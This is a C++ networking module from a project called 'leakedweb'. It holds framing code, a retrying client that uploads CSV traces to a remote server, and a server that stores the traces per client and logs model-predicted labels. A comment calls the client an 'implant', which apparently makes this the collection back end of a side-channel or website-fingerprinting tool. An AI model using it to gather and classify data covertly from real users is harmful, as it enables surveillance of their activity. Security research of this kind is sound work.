#include "leakedweb/net.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>

#include <nlohmann/json.hpp>

namespace leakedweb {

using json = nlohmann::json;

namespace {

constexpr char kMagic[4] = {'L', 'W', 'E', 'B'};
constexpr std::uint8_t kVersion = 1;

std::uint64_t fnv1a(std::string_view bytes) {
  std::uint64_t hash = 0xcbf29ce484222325ULL;
  for (unsigned char ch : bytes) {
    hash ^= ch;
    hash *= 0x100000001b3ULL;
  }
  return hash;
}

std::string hex64(std::uint64_t value) {
  char buf[17];
  std::snprintf(buf, sizeof(buf), "%016llx", static_cast<unsigned long long>(value));
  return buf;
}

std::string sanitize_component(std::string_view name) {
  std::string out;
  for (char ch : name) {
    out += (std::isalnum(static_cast<unsigned char>(ch)) || ch == '-' || ch == '.') ? ch : '_';
  }
  return out.empty() ? "anonymous" : out;
}

}  // namespace

std::string encode_frame(MsgType msg_type, std::string_view payload, std::size_t max_payload) {
  if (payload.size() > max_payload) {
    throw InvariantError("frame payload of " + std::to_string(payload.size()) +
                         " bytes exceeds the cap of " + std::to_string(max_payload));
  }
  std::string out;
  out.reserve(kFrameHeaderSize + payload.size());
  out.append(kMagic, sizeof(kMagic));
  out += static_cast<char>(kVersion);
  out += static_cast<char>(msg_type);
  const auto len = static_cast<std::uint32_t>(payload.size());
  out += static_cast<char>((len >> 24) & 0xff);
  out += static_cast<char>((len >> 16) & 0xff);
  out += static_cast<char>((len >> 8) & 0xff);
  out += static_cast<char>(len & 0xff);
  out.append(payload);
  return out;
}

DecodeResult decode_frame(std::string_view bytes, std::size_t max_payload) {
  DecodeResult result;
  if (bytes.size() < kFrameHeaderSize) {
    result.need_more = kFrameHeaderSize - bytes.size();
    return result;
  }
  if (std::memcmp(bytes.data(), kMagic, sizeof(kMagic)) != 0) {
    throw ProtocolError("bad frame magic");
  }
  const auto version = static_cast<std::uint8_t>(bytes[4]);
  if (version != kVersion) {
    throw ProtocolError("unsupported frame version " + std::to_string(version));
  }
  const auto type_byte = static_cast<std::uint8_t>(bytes[5]);
  if (type_byte < 1 || type_byte > 4) {
    throw ProtocolError("unknown message type " + std::to_string(type_byte));
  }
  const std::uint32_t len = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[6])) << 24) |
                            (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[7])) << 16) |
                            (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[8])) << 8) |
                            static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[9]));
  if (len > max_payload) {
    throw ProtocolError("declared payload of " + std::to_string(len) + " bytes exceeds the cap");
  }
  if (bytes.size() < kFrameHeaderSize + len) {
    result.need_more = kFrameHeaderSize + len - bytes.size();
    return result;
  }
  Frame frame;
  frame.msg_type = static_cast<MsgType>(type_byte);
  frame.payload.assign(bytes.data() + kFrameHeaderSize, len);
  result.frame = std::move(frame);
  result.consumed = kFrameHeaderSize + len;
  return result;
}

// ---- Socket plumbing ----

namespace {

class Socket {
 public:
  Socket() = default;
  explicit Socket(int fd) : fd_(fd) {}
  ~Socket() { close(); }
  Socket(Socket&& other) noexcept : fd_(other.fd_) { other.fd_ = -1; }
  Socket& operator=(Socket&& other) noexcept {
    if (this != &other) {
      close();
      fd_ = other.fd_;
      other.fd_ = -1;
    }
    return *this;
  }
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;

  int fd() const { return fd_; }
  int release() {
    int fd = fd_;
    fd_ = -1;
    return fd;
  }
  void close() {
    if (fd_ >= 0) {
      ::close(fd_);
      fd_ = -1;
    }
  }

 private:
  int fd_ = -1;
};

void write_all(int fd, std::string_view bytes) {
  std::size_t sent = 0;
  while (sent < bytes.size()) {
    const ssize_t n = ::send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      throw IoError(std::string("socket write failed: ") + std::strerror(errno));
    }
    sent += static_cast<std::size_t>(n);
  }
}

// Reads exactly n bytes; false on clean EOF at offset 0.
bool read_exact(int fd, std::string& buffer, std::size_t n) {
  buffer.resize(n);
  std::size_t got = 0;
  while (got < n) {
    const ssize_t r = ::recv(fd, buffer.data() + got, n - got, 0);
    if (r < 0) {
      if (errno == EINTR) continue;
      throw IoError(std::string("socket read failed: ") + std::strerror(errno));
    }
    if (r == 0) {
      if (got == 0) return false;
      throw ProtocolError("connection closed mid-frame");
    }
    got += static_cast<std::size_t>(r);
  }
  return true;
}

// Reads one whole frame; nullopt on clean EOF between frames.
std::optional<Frame> read_frame(int fd, std::size_t max_payload) {
  std::string header;
  if (!read_exact(fd, header, kFrameHeaderSize)) return std::nullopt;
  auto partial = decode_frame(header, max_payload);
  if (partial.frame) return partial.frame;
  std::string payload;
  if (!read_exact(fd, payload, partial.need_more)) {
    throw ProtocolError("connection closed mid-frame");
  }
  auto full = decode_frame(header + payload, max_payload);
  if (!full.frame) throw ProtocolError("frame decode stalled");
  return full.frame;
}

Socket connect_to(const std::string& host, std::uint16_t port) {
  Socket sock(::socket(AF_INET, SOCK_STREAM, 0));
  if (sock.fd() < 0) throw IoError(std::string("socket(): ") + std::strerror(errno));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  if (::inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1) {
    throw IoError("cannot parse endpoint address '" + host + "'");
  }
  if (::connect(sock.fd(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    throw IoError(std::string("connect(): ") + std::strerror(errno));
  }
  return sock;
}

}  // namespace

// ---- Client ----

SendResult client_send_trace(const std::string& host, std::uint16_t port, const Trace& trace,
                             const std::string& client_id, const RetryPolicy& retry,
                             const std::filesystem::path& spool_dir, std::size_t max_payload) {
  trace.validate();
  const std::string csv = trace_csv_string(trace);
  json payload = {{"client_id", client_id},
                  {"meta",
                   {{"sampling_rate_hz", trace.meta.sampling_rate_hz},
                    {"events", trace.events},
                    {"source", std::string(to_string(trace.meta.source))}}},
                  {"csv", csv}};
  const std::string payload_bytes = payload.dump();
  if (payload_bytes.size() > max_payload) {
    // Reject before touching the network; fragmentation is out of scope.
    throw InvariantError("trace upload of " + std::to_string(payload_bytes.size()) +
                         " bytes exceeds the payload cap");
  }
  const std::string frame = encode_frame(MsgType::trace_upload, payload_bytes, max_payload);

  std::string last_error = "no attempts made";
  double delay_s = retry.base_delay_s;
  for (std::size_t attempt = 0; attempt < std::max<std::size_t>(1, retry.max_attempts); ++attempt) {
    if (attempt > 0) {
      std::this_thread::sleep_for(std::chrono::duration<double>(delay_s));
      delay_s *= retry.factor;
    }
    try {
      Socket sock = connect_to(host, port);
      write_all(sock.fd(), frame);
      auto reply = read_frame(sock.fd(), max_payload);
      if (!reply) throw IoError("server closed connection without replying");
      if (reply->msg_type == MsgType::error) {
        std::string message = reply->payload;
        try {
          message = json::parse(reply->payload).value("error", reply->payload);
        } catch (const json::exception&) {
        }
        throw ProtocolError("server error: " + message);
      }
      if (reply->msg_type != MsgType::prediction) {
        throw ProtocolError("unexpected reply type");
      }
      json doc = json::parse(reply->payload);
      SendResult result;
      result.predicted_label = doc.at("label").get<std::string>();
      for (const auto& [cls, score] : doc.at("scores").items()) {
        result.scores.emplace_back(cls, score.get<double>());
      }
      return result;
    } catch (const ProtocolError&) {
      throw;  // semantic rejection: retrying cannot help
    } catch (const Error& e) {
      last_error = e.what();
    }
  }

  // Delivery failed: spool so the implant loses nothing.
  std::filesystem::create_directories(spool_dir);
  const std::string name =
      sanitize_component(client_id) + "-" + hex64(fnv1a(csv)) + ".csv";
  std::ofstream out(spool_dir / name, std::ios::binary);
  out << csv;
  out.close();
  throw IoError("trace delivery failed after " + std::to_string(retry.max_attempts) +
                " attempts (" + last_error + "); spooled to " + (spool_dir / name).string());
}

// ---- Server ----

TraceServer::TraceServer(ServerConfig config, TrainedModel model)
    : config_(std::move(config)), model_(std::move(model)) {}

TraceServer::~TraceServer() { stop(); }

std::uint16_t TraceServer::start() {
  std::filesystem::create_directories(config_.store_root);
  Socket sock(::socket(AF_INET, SOCK_STREAM, 0));
  if (sock.fd() < 0) throw IoError(std::string("socket(): ") + std::strerror(errno));
  const int one = 1;
  ::setsockopt(sock.fd(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(config_.port);
  if (::inet_pton(AF_INET, config_.bind_address.c_str(), &addr.sin_addr) != 1) {
    throw IoError("cannot parse bind address '" + config_.bind_address + "'");
  }
  if (::bind(sock.fd(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    throw IoError(std::string("bind(): ") + std::strerror(errno));
  }
  if (::listen(sock.fd(), 16) != 0) {
    throw IoError(std::string("listen(): ") + std::strerror(errno));
  }
  socklen_t len = sizeof(addr);
  ::getsockname(sock.fd(), reinterpret_cast<sockaddr*>(&addr), &len);
  listen_fd_ = sock.release();
  running_.store(true);
  accept_thread_ = std::thread([this]() { accept_loop(); });
  return ntohs(addr.sin_port);
}

void TraceServer::stop() {
  if (!running_.exchange(false)) return;
  if (listen_fd_ >= 0) {
    ::shutdown(listen_fd_, SHUT_RDWR);
    ::close(listen_fd_);
    listen_fd_ = -1;
  }
  if (accept_thread_.joinable()) accept_thread_.join();
  std::vector<std::thread> handlers;
  {
    std::lock_guard lock(handlers_mutex_);
    handlers.swap(handlers_);
  }
  for (auto& handler : handlers) {
    if (handler.joinable()) handler.join();
  }
}

void TraceServer::wait() {
  while (running_.load()) std::this_thread::sleep_for(std::chrono::milliseconds(200));
}

void TraceServer::accept_loop() {
  while (running_.load()) {
    pollfd pfd{listen_fd_, POLLIN, 0};
    const int ready = ::poll(&pfd, 1, 200);
    if (!running_.load()) break;
    if (ready <= 0) continue;
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) continue;
    std::lock_guard lock(handlers_mutex_);
    handlers_.emplace_back([this, fd]() { handle_connection(fd); });
  }
}

void TraceServer::handle_connection(int raw_fd) {
  Socket sock(raw_fd);
  try {
    while (running_.load()) {
      auto frame = read_frame(sock.fd(), config_.max_payload);
      if (!frame) return;  // clean close between frames

      if (frame->msg_type == MsgType::heartbeat) {
        write_all(sock.fd(), encode_frame(MsgType::heartbeat, "", config_.max_payload));
        continue;
      }
      if (frame->msg_type != MsgType::trace_upload) {
        throw ProtocolError("client may only send uploads and heartbeats");
      }

      try {
        json doc = json::parse(frame->payload);
        const std::string client_id = doc.at("client_id").get<std::string>();
        const std::string csv = doc.at("csv").get<std::string>();
        TraceMeta meta;
        meta.source = trace_source_from_string(
            doc.at("meta").value("source", std::string("live")));
        meta.sampling_rate_hz = doc.at("meta").value("sampling_rate_hz", 1.0);
        const Trace trace = parse_trace_csv(csv, "unknown", meta);

        // Persist the received bytes exactly: temp file, then atomic rename.
        const auto client_dir = config_.store_root / sanitize_component(client_id);
        const std::string name = hex64(fnv1a(csv)) + ".csv";
        {
          std::lock_guard lock(store_mutex_);
          std::filesystem::create_directories(client_dir);
          const auto tmp = client_dir / (name + ".tmp");
          std::ofstream out(tmp, std::ios::binary);
          if (!out) throw IoError("cannot write trace store file");
          out << csv;
          out.close();
          std::filesystem::rename(tmp, client_dir / name);
        }

        const PredictionResult prediction = predict(model_, trace);
        json scores = json::object();
        for (std::size_t c = 0; c < model_.class_list.size(); ++c) {
          scores[model_.class_list[c]] = prediction.scores[c];
        }

        {
          const auto now = std::chrono::duration_cast<std::chrono::seconds>(
                               std::chrono::system_clock::now().time_since_epoch())
                               .count();
          json line = {{"ts", now},
                       {"client", client_id},
                       {"trace_file", name},
                       {"label", prediction.label},
                       {"scores", scores}};
          std::lock_guard lock(log_mutex_);
          std::ofstream log(config_.store_root / "predictions.log", std::ios::app);
          log << line.dump() << '\n';
        }

        json reply = {{"label", prediction.label}, {"scores", scores}};
        write_all(sock.fd(), encode_frame(MsgType::prediction, reply.dump(), config_.max_payload));
      } catch (const ProtocolError&) {
        throw;
      } catch (const json::exception& e) {
        json err = {{"error", std::string("malformed upload payload: ") + e.what()}};
        write_all(sock.fd(), encode_frame(MsgType::error, err.dump(), config_.max_payload));
      } catch (const Error& e) {
        json err = {{"error", e.what()}};
        write_all(sock.fd(), encode_frame(MsgType::error, err.dump(), config_.max_payload));
      }
    }
  } catch (...) {
    // Protocol violations and I/O failures drop just this connection.
  }
}

}  // namespace leakedweb
